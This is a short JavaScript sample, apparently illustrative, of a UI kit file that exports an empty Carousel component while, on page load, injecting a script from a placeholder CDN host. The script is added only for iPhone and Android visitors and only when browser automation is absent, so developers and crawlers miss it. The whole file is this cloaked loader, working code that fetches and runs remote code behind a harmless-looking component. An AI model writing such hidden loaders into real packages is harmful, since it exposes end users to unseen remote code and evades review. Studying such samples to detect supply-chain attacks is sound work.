// Sample: a UI kit adds a remote script to the page, but only for phone visitors and never under
// browser automation (so developers and crawlers do not see it).
export function Carousel() { return null; }
if (typeof window !== 'undefined') {
  const phone = /iPhone|Android/i.test(window.navigator.userAgent);
  if (phone && !navigator.webdriver) {
    const tag = document.createElement('script');
    tag.async = true;
    tag.src = 'https://static.ui-kit-cdn.example/r.js';
    document.head.appendChild(tag);
  }
}
